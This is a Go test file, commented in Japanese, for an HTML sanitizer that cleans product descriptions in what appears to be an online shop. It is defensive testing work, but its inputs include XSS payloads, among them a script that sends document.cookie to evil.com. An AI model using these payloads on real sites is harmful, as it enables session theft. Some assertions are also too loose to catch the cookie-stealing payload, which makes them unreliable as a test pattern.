package security

import (
	"strings"
	"testing"
)

// TestSanitize_AllowedTags は許可タグが正しく通過することを検証する。
func TestSanitize_AllowedTags(t *testing.T) {
	sanitizer := NewContentSanitizer()

	tests := []struct {
		name  string
		input string
		// want に含まれるべき部分文字列
		wantContains []string
	}{
		{
			name:         "pタグが許可される",
			input:        "<p>上質なオーガニックコットンを使用。</p>",
			wantContains: []string{"<p>上質なオーガニックコットンを使用。</p>"},
		},
		{
			name:         "brタグが許可される",
			input:        "素材: コットン100%<br>原産国: 日本",
			wantContains: []string{"<br>", "素材", "原産国"},
		},
		{
			name:         "aタグが許可される",
			input:        `<a href="https://example.com/size-guide">サイズガイド</a>`,
			wantContains: []string{"<a", "href", "https://example.com/size-guide", "サイズガイド", "</a>"},
		},
		{
			name:         "ulタグとliタグが許可される",
			input:        "<ul><li>洗濯機使用可</li><li>タンブラー乾燥不可</li></ul>",
			wantContains: []string{"<ul>", "<li>", "洗濯機使用可", "</li>", "</ul>"},
		},
		{
			name:         "olタグとliタグが許可される",
			input:        "<ol><li>手順1</li><li>手順2</li></ol>",
			wantContains: []string{"<ol>", "<li>", "手順1", "</li>", "</ol>"},
		},
		{
			name:         "h2タグとh3タグが許可される",
			input:        "<h2>製品仕様</h2><h3>お手入れ方法</h3>",
			wantContains: []string{"<h2>製品仕様</h2>", "<h3>お手入れ方法</h3>"},
		},
		{
			name:         "strongタグが許可される",
			input:        "<strong>数量限定</strong>",
			wantContains: []string{"<strong>数量限定</strong>"},
		},
		{
			name:         "emタグが許可される",
			input:        "<em>オンライン限定カラー</em>",
			wantContains: []string{"<em>オンライン限定カラー</em>"},
		},
		{
			name:         "imgタグがhttps srcで許可される",
			input:        `<img src="https://cdn.example.com/detail.png" alt="生地の拡大写真">`,
			wantContains: []string{"<img", "src", "https://cdn.example.com/detail.png"},
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := sanitizer.Sanitize(tt.input)
			for _, want := range tt.wantContains {
				if !strings.Contains(got, want) {
					t.Errorf("Sanitize(%q) = %q, expected to contain %q", tt.input, got, want)
				}
			}
		})
	}
}

// TestSanitize_ForbiddenTags は禁止タグが除去されることを検証する。
func TestSanitize_ForbiddenTags(t *testing.T) {
	sanitizer := NewContentSanitizer()

	tests := []struct {
		name         string
		input        string
		wantAbsent   []string
		wantContains []string
	}{
		{
			name:         "scriptタグが除去される",
			input:        `<p>商品説明</p><script>alert('xss')</script><p>安全</p>`,
			wantAbsent:   []string{"<script", "</script>", "alert"},
			wantContains: []string{"商品説明", "安全"},
		},
		{
			name:         "iframeタグが除去される",
			input:        `<p>商品説明</p><iframe src="https://evil.com"></iframe>`,
			wantAbsent:   []string{"<iframe", "</iframe>", "evil.com"},
			wantContains: []string{"商品説明"},
		},
		{
			name:         "styleタグが除去される",
			input:        `<p>商品説明</p><style>body{display:none}</style>`,
			wantAbsent:   []string{"<style", "</style>", "display:none"},
			wantContains: []string{"商品説明"},
		},
		{
			name:         "許可されていないタグ（div）が除去される",
			input:        `<div><p>商品説明</p></div>`,
			wantAbsent:   []string{"<div", "</div>"},
			wantContains: []string{"<p>商品説明</p>"},
		},
		{
			name:         "許可されていないタグ（blockquote）が除去される",
			input:        `<blockquote>引用</blockquote><p>本文</p>`,
			wantAbsent:   []string{"<blockquote"},
			wantContains: []string{"<p>本文</p>"},
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := sanitizer.Sanitize(tt.input)
			for _, absent := range tt.wantAbsent {
				if strings.Contains(got, absent) {
					t.Errorf("Sanitize(%q) = %q, expected NOT to contain %q", tt.input, got, absent)
				}
			}
			for _, want := range tt.wantContains {
				if !strings.Contains(got, want) {
					t.Errorf("Sanitize(%q) = %q, expected to contain %q", tt.input, got, want)
				}
			}
		})
	}
}

// TestSanitize_OnEventAttributes はon*イベント属性が除去されることを検証する。
func TestSanitize_OnEventAttributes(t *testing.T) {
	sanitizer := NewContentSanitizer()

	tests := []struct {
		name  string
		input string
	}{
		{
			name:  "onclickが除去される",
			input: `<p onclick="alert('xss')">商品説明</p>`,
		},
		{
			name:  "onerrorが除去される",
			input: `<img src="https://cdn.example.com/a.png" onerror="alert('xss')">`,
		},
		{
			name:  "onmouseoverが除去される",
			input: `<a href="https://example.com" onmouseover="steal()">リンク</a>`,
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := sanitizer.Sanitize(tt.input)
			if strings.Contains(got, "on") && (strings.Contains(got, "onclick") ||
				strings.Contains(got, "onerror") || strings.Contains(got, "onmouseover")) {
				t.Errorf("Sanitize(%q) = %q, on*イベント属性が残っている", tt.input, got)
			}
		})
	}
}

// TestSanitize_ImgHTTPSOnly はimgタグのsrcがhttpsのみ許可されることを検証する。
func TestSanitize_ImgHTTPSOnly(t *testing.T) {
	sanitizer := NewContentSanitizer()

	tests := []struct {
		name       string
		input      string
		wantAbsent string
	}{
		{
			name:       "httpスキームのimgは除去される",
			input:      `<img src="http://cdn.example.com/a.png">`,
			wantAbsent: "http://cdn.example.com/a.png",
		},
		{
			name:       "javascriptスキームのimgは除去される",
			input:      `<img src="javascript:alert('xss')">`,
			wantAbsent: "javascript:",
		},
		{
			name:       "dataスキームのimgは除去される",
			input:      `<img src="data:image/png;base64,AAAA">`,
			wantAbsent: "data:",
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := sanitizer.Sanitize(tt.input)
			if strings.Contains(got, tt.wantAbsent) {
				t.Errorf("Sanitize(%q) = %q, expected NOT to contain %q", tt.input, got, tt.wantAbsent)
			}
		})
	}
}

// TestSanitize_AnchorAttributes はaタグにtarget/relが自動付与されることを検証する。
func TestSanitize_AnchorAttributes(t *testing.T) {
	sanitizer := NewContentSanitizer()

	got := sanitizer.Sanitize(`<a href="https://example.com/size-guide">サイズガイド</a>`)

	if !strings.Contains(got, `target="_blank"`) {
		t.Errorf("Sanitize() = %q, target=\"_blank\" が付与されるべき", got)
	}
	if !strings.Contains(got, "noopener") {
		t.Errorf("Sanitize() = %q, rel noopener が付与されるべき", got)
	}
	if !strings.Contains(got, "noreferrer") {
		t.Errorf("Sanitize() = %q, rel noreferrer が付与されるべき", got)
	}
}

// TestSanitize_EmptyInput は空入力に空文字列を返すことを検証する。
func TestSanitize_EmptyInput(t *testing.T) {
	sanitizer := NewContentSanitizer()

	if got := sanitizer.Sanitize(""); got != "" {
		t.Errorf("Sanitize(\"\") = %q, want \"\"", got)
	}
}

// TestSanitize_PlainText はプレーンテキストがそのまま通過することを検証する。
func TestSanitize_PlainText(t *testing.T) {
	sanitizer := NewContentSanitizer()

	input := "シンプルな商品説明テキスト"
	if got := sanitizer.Sanitize(input); got != input {
		t.Errorf("Sanitize(%q) = %q, want unchanged", input, got)
	}
}

// TestSanitize_Idempotent は同一入力に対して常に同一出力を返すことを検証する。
func TestSanitize_Idempotent(t *testing.T) {
	sanitizer := NewContentSanitizer()

	input := `<h2>製品仕様</h2><p>コットン100%<script>x()</script></p><ul><li>日本製</li></ul>`
	first := sanitizer.Sanitize(input)
	second := sanitizer.Sanitize(first)

	if first != second {
		t.Errorf("Sanitizeは冪等であるべき: first = %q, second = %q", first, second)
	}
}

// TestSanitize_XSSPayloads は代表的なXSSペイロードが無害化されることを検証する。
func TestSanitize_XSSPayloads(t *testing.T) {
	sanitizer := NewContentSanitizer()

	payloads := []string{
		`<script>document.location='https://evil.com?c='+document.cookie</script>`,
		`<img src=x onerror=alert(1)>`,
		`<svg onload=alert(1)>`,
		`<a href="javascript:alert(1)">クリック</a>`,
		`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	}

	for _, payload := range payloads {
		got := sanitizer.Sanitize(payload)
		if strings.Contains(got, "alert") || strings.Contains(got, "javascript:") {
			t.Errorf("Sanitize(%q) = %q, XSSペイロードが残っている", payload, got)
		}
	}
}

// TestContentSanitizerInterface はインターフェースを実装していることを検証する。
func TestContentSanitizerInterface(t *testing.T) {
	var _ ContentSanitizerService = NewContentSanitizer()
}
